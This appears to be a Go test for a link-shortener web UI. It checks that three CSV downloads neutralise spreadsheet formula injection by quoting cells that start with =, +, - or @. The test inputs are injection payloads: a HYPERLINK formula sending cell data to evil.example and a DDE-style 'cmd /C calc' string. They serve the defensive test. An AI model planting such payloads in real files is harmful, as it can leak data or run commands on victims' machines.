package ui_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
)

// TestCSVFormulaGuard: the UI's CSV downloads (the links export, the
// created links of an import, the click events) write a text cell that a
// spreadsheet would run as a formula (= + - @) with a leading quote, and
// the counts as plain numbers.
func TestCSVFormulaGuard(t *testing.T) {
	e := newEnv(t)
	b := e.browser()
	tok := b.signIn(adminKey)
	const title = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	b.post("/ui/new", url.Values{"csrf": {tok}, "target": {shareText}, "alias": {"-gu1"}, "title": {title},
		"campaign": {"+cmd|' /C calc'!A0"}, "tags": {"@SUM(A1),ok"}, "action": {"create"}}).must(t, http.StatusSeeOther)
	b.get("/-gu1", "User-Agent", wechatUA)

	cells := func(name, body string) map[string]string {
		t.Helper()
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%s: %v, %q", name, err, body)
		}
		for _, r := range rows[1:] {
			if r[slices.Index(rows[0], "code")] == "'-gu1" {
				m := map[string]string{}
				for i, h := range rows[0] {
					m[h] = r[i]
				}
				return m
			}
		}
		t.Fatalf("%s: no row with code '-gu1: %q", name, rows)
		return nil
	}
	wantText := map[string]string{"title": "'" + title, "campaign": "'+cmd|' /C calc'!A0", "tags": "'@SUM(A1);ok"}
	check := func(name string, got map[string]string) {
		t.Helper()
		for col, want := range wantText {
			if got[col] != want {
				t.Errorf("%s: %s = %q; want %q", name, col, got[col], want)
			}
		}
	}

	var ex map[string]string
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		ex = cells("links export", b.get("/ui/links/export.csv?sort=code").Body)
		if ex["clicks"] == "1" || time.Now().After(deadline) {
			break
		}
	}
	check("links export", ex)
	if ex["clicks"] != "1" || ex["max_clicks"] != "0" || !strings.HasPrefix(ex["target"], "8.94") {
		t.Errorf("links export: clicks %q, max_clicks %q, target %q; want the numbers and the text as they are", ex["clicks"], ex["max_clicks"], ex["target"])
	}

	imp := b.post("/ui/import/links.csv", url.Values{"csrf": {tok}, "l": {"|-gu1"}})
	if imp.Status != http.StatusOK || !strings.HasPrefix(imp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("import download: %d %v", imp.Status, imp.Header)
	}
	check("import download", cells("import download", imp.Body))

	ev := cells("events export", b.get("/ui/events/export?since=1d&format=csv").Body)
	if ev["campaign"] != wantText["campaign"] || ev["bot"] != "false" || ev["app"] != "wechat" {
		t.Errorf("events export: campaign %q, bot %q, app %q", ev["campaign"], ev["bot"], ev["app"])
	}
}
